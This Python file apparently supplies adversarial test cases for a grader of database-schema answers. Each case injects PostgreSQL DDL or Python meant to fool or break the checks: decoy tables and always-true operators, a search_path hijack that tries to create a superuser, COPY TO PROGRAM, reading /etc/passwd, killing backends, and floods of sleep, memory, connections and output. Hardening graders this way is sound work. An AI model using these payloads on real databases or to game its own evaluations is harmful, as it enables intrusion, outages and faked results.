"""Attacks by those who own the tables: DDL that runs when the answer's tables are made.

They are put into BARE, which has the columns of the text and keeps none of its rules: what they
gain would be points for rules that nobody keeps. Those on catalog.schemas run when it is loaded.
"""

from __future__ import annotations

from attack import Attack

BARE = '''"""Tables without rules."""

from __future__ import annotations

from sqlalchemy import Column, DateTime, Float, ForeignKey, Integer, String, Text, Uuid, func
from sqlalchemy.dialects.postgresql import JSONB
from sqlalchemy.orm import relationship

from backend.database import Base


class Category(Base):
    __tablename__ = "categories"
    id = Column(Uuid, primary_key=True, server_default=func.gen_random_uuid())
    name = Column(Text)
    description = Column(Text)
    created_at = Column(DateTime(timezone=True))


class Product(Base):
    __tablename__ = "products"
    id = Column(Uuid, primary_key=True, server_default=func.gen_random_uuid())
    name = Column(Text)
    description = Column(Text)
    price = Column(Float)
    category_id = Column(Uuid, ForeignKey("categories.id", ondelete="CASCADE"))
    stock_quantity = Column(Integer)
    is_active = Column(Integer)
    attributes = Column(Text)
    created_at = Column(DateTime(timezone=True))
    updated_at = Column(DateTime(timezone=True))
    category = relationship(Category)
'''


def _made(statements: str, ignore: bool = False) -> str:
    """Code that runs these statements, parted by ;; , after the tables were made.

    ignore: go on where one is refused.
    """
    return f'''
        from sqlalchemy import DDL, event

        for _statement in """{statements}""".split(";;"):
            _statement = _statement.strip().replace("%", "%%")
            if {ignore!r}:
                _statement = ("DO $outer$ BEGIN EXECUTE $inner$" + _statement + "$inner$;"
                              " EXCEPTION WHEN OTHERS THEN NULL; END $outer$")
            event.listen(Base.metadata, "after_create", DDL(_statement))
        '''


def _trigger(when: str, table: str, body: str) -> str:
    """Statements that make a trigger for each row of a table."""
    return f"""
        CREATE FUNCTION spring() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN {body} END $$ ;;
        CREATE TRIGGER spring {when} ON {table} FOR EACH ROW EXECUTE FUNCTION spring()"""


def _on_models(name: str, of: str, tries: str, statements: str, *, ignore: bool = False) -> Attack:
    return Attack(name, of, tries, _made(statements, ignore), at="end", on="catalog.models")


def _on_schemas(name: str, of: str, tries: str, statements: str) -> Attack:
    """Statements that run when the system loads, before the first check."""
    code = f'''
        import psycopg2
        _connection = psycopg2.connect(os.environ["DATABASE_URL"])
        _connection.autocommit = True
        for _statement in """{statements}""".split(";;"):
            try:
                _connection.cursor().execute(_statement)
            except psycopg2.Error as error:
                print("refused:", error)
        _connection.close()
        '''
    return Attack(name, of, tries, code, at="end", on="catalog.schemas")


SCHEMA = (
    _on_models("refuses_every_change", "always-equal object",
               "refuses every change as if it broke a rule",
               _trigger("BEFORE UPDATE OR DELETE", "products",
                        "RAISE EXCEPTION 'no' USING ERRCODE = '23514';") + ";;" +
               "CREATE TRIGGER spring BEFORE UPDATE OR DELETE ON categories"
               " FOR EACH ROW EXECUTE FUNCTION spring()"),
    _on_models("knows_the_values", "hard-coded visible cases",
               "refuses the one price and the one stock that a check would try first",
               "ALTER TABLE products ADD CHECK (price <> -1), ADD CHECK (stock_quantity <> -1)"),
    _on_models("shows_a_decoy", "always-equal object",
               "shows the checks another table of that name, with the types of the text", """
                CREATE SCHEMA decoy ;;
                CREATE TABLE decoy.products (id uuid, price numeric(10, 2), category_id uuid,
                    stock_quantity int, is_active boolean, attributes jsonb,
                    created_at timestamptz, updated_at timestamptz) ;;
                CREATE FUNCTION always(information_schema.sql_identifier,
                    information_schema.sql_identifier) RETURNS bool LANGUAGE sql AS 'SELECT true' ;;
                CREATE OPERATOR public.= (LEFTARG = information_schema.sql_identifier,
                    RIGHTARG = information_schema.sql_identifier, FUNCTION = always) ;;
                CREATE FUNCTION always(text, text) RETURNS bool LANGUAGE sql AS 'SELECT true' ;;
                CREATE OPERATOR public.@> (LEFTARG = text, RIGHTARG = text, FUNCTION = always)"""),
    _on_models("lies_in_returning", "always-equal object",
               "is a view whose rules return what was asked for and keep nothing", """
                ALTER TABLE products RENAME TO kept ;;
                CREATE VIEW products AS SELECT id, name, description, price::numeric(10, 2),
                    category_id, stock_quantity, is_active = 1 AS is_active,
                    attributes::jsonb AS attributes, created_at, updated_at FROM kept ;;
                CREATE FUNCTION spring() RETURNS trigger LANGUAGE plpgsql AS
                    'BEGIN RETURN NEW; END' ;;
                CREATE TRIGGER spring INSTEAD OF INSERT OR UPDATE ON products
                    FOR EACH ROW EXECUTE FUNCTION spring()"""),
    _on_models("swallows_every_row", "always-equal object",
               "swallows the rows that the checks insert, whose ids they then look for",
               _trigger("BEFORE INSERT", "categories", "RETURN NULL;")),
    _on_models("bends_the_session", "patch the checker",
               "sets up the checks' session from a trigger: search path, limits, temporary views",
               _trigger("BEFORE INSERT", "categories", """
                    PERFORM set_config('search_path', 'decoy,pg_catalog', false);
                    PERFORM set_config('statement_timeout', '0', false);
                    CREATE TEMP VIEW products AS SELECT NULL::uuid AS id WHERE false;
                    RETURN NEW;""")),
    _on_models("bends_the_administrator", "patch the checker",
               "lets the administrator's session find its own pg_namespace and pg_database", """
                CREATE SCHEMA evil ;;
                CREATE FUNCTION evil.spring() RETURNS name LANGUAGE plpgsql AS $$ BEGIN
                    BEGIN CREATE ROLE intruder SUPERUSER; EXCEPTION WHEN OTHERS THEN NULL; END;
                    RETURN 'public'; END $$ ;;
                CREATE VIEW evil.pg_namespace AS SELECT evil.spring() AS nspname, nspowner
                    FROM pg_catalog.pg_namespace ;;
                CREATE VIEW evil.pg_database AS SELECT evil.spring() AS datname, datdba
                    FROM pg_catalog.pg_database ;;
                GRANT USAGE ON SCHEMA evil TO PUBLIC ;;
                GRANT SELECT ON ALL TABLES IN SCHEMA evil TO PUBLIC ;;
                DO $$ BEGIN EXECUTE format('ALTER DATABASE %I SET search_path = evil, pg_catalog',
                    current_database()); END $$ ;;
                DO $$ BEGIN EXECUTE format('ALTER DATABASE %I SET statement_timeout = 1',
                    current_database()); END $$"""),
    _on_models("makes_forbidden_things", "kill the parent or the services",
               "files, programs, roles, event triggers, by the statements that make tables", """
                COPY categories TO PROGRAM 'touch /tmp/owned' ;;
                CREATE EXTENSION dblink ;;
                SELECT pg_read_file('/etc/passwd') ;;
                SELECT lo_import('/etc/passwd') ;;
                CREATE ROLE intruder ;;
                CREATE DATABASE wb_00000000_intruder ;;
                ALTER ROLE CURRENT_USER SUPERUSER ;;
                ALTER ROLE CURRENT_USER CREATEROLE ;;
                CREATE FUNCTION spring() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN END' ;;
                CREATE EVENT TRIGGER spring ON ddl_command_start EXECUTE FUNCTION spring() ;;
                ALTER SYSTEM SET max_connections = 1 ;;
                CREATE TABLESPACE intruder LOCATION '/tmp' ;;
                SELECT pg_terminate_backend(pid) FROM pg_stat_activity
                    WHERE pid <> pg_backend_pid()""", ignore=True),
    _on_models("sleeps_at_commit", "sleep or SIGSTOP",
               "sleeps in the checks' session at COMMIT, where no time limit of it counts", """
                CREATE FUNCTION spring() RETURNS trigger LANGUAGE plpgsql AS
                    'BEGIN PERFORM pg_sleep(1000); RETURN NULL; END' ;;
                CREATE CONSTRAINT TRIGGER spring AFTER INSERT ON categories
                    DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION spring()"""),
    _on_models("cannot_be_cancelled", "endless loop",
               "catches the cancellation of the checks' statement, and goes on",
               _trigger("BEFORE INSERT", "categories", """
                    LOOP
                        BEGIN PERFORM pg_sleep(1000); EXCEPTION WHEN query_canceled THEN NULL; END;
                    END LOOP;""")),
    _on_models("values_without_end", "memory",
               "puts thirty megabytes into the row that a check gets back",
               _trigger("BEFORE INSERT", "products",
                        "NEW.description = repeat('x', 30000000); RETURN NEW;")),
    _on_models("errors_without_end", "output flood",
               "refuses a row with a text of thirty megabytes",
               _trigger("BEFORE INSERT", "products",
                        "RAISE EXCEPTION '%', repeat('x', 30000000);")),
    _on_models("values_out_of_this_world", "hostile __str__, exception or repr",
               "stores moments before our era, which Python's datetime cannot hold",
               _trigger("BEFORE INSERT", "categories",
                        "NEW.created_at = '4713-01-01 BC'; RETURN NEW;")),
    _on_schemas("rows_without_end", "memory",
                "puts a view of a billion rows in the place of the categories", """
                ALTER TABLE categories RENAME TO kept ;;
                CREATE VIEW categories AS SELECT gen_random_uuid() AS id,
                    'Books' AS name, '' AS description, now() AS created_at, 1 AS number
                    FROM generate_series(1, 30000) a, generate_series(1, 30000) b ;;
                CREATE FUNCTION spring() RETURNS trigger LANGUAGE plpgsql AS
                    'BEGIN RETURN NEW; END' ;;
                CREATE TRIGGER spring INSTEAD OF INSERT ON categories
                    FOR EACH ROW EXECUTE FUNCTION spring()"""),
    _on_schemas("no_categories", "always-equal object",
                "keeps no category, so that there is none to post a product for", """
                CREATE RULE spring AS ON INSERT TO categories DO INSTEAD NOTHING"""),
    Attack("hides_statements", "always-equal object",
           "reads every row, and hides that behind more statements than are kept", """
        import psycopg2

        def attack(session, query):
            if once("flood"):
                with psycopg2.connect(os.environ["DATABASE_URL"]) as connection:
                    for _ in range(600):
                        connection.cursor().execute("SELECT 2 -- " + "x" * 65_536)
            session.execute(_text("SELECT * FROM products")).all()
        """),
    Attack("prepares_without_end", "memory",
           "prepares large statements under ever new names, which the way would remember", """
        from urllib.parse import urlsplit
        import struct

        def attack(session, query):
            if once("prepare"):
                port = urlsplit(os.environ["DATABASE_URL"]).port
                with socket.create_connection(("127.0.0.1", port)) as opened:
                    opened.sendall(struct.pack("!II", 8, 196608))
                    for number in range(8000):
                        body = b"s%d\\0" % number + b"x" * 60000 + b"\\0\\0\\0"
                        opened.sendall(b"P" + struct.pack("!I", len(body) + 4) + body)
        """),
    Attack("connects_without_end", "fork or thread bomb",
           "opens connections to its database, and keeps them, until it gets no more", """
        from urllib.parse import urlsplit
        _kept = []

        def attack(session, query):
            port = urlsplit(os.environ["DATABASE_URL"]).port
            try:
                while True:
                    _kept.append(socket.create_connection(("127.0.0.1", port), 1))
            except OSError:
                pass
        """),
    Attack("floods_news", "forged result file",
           "tells whoever started it a hundred thousand different things", """
        for _number in range(3, 64):
            try:
                for _count in range(2000):
                    os.write(_number, b'{"%d": "%s"}\\n' % (_count, b"x" * 60000))
            except OSError:
                pass
        """, at="import"),
)  # fmt: skip
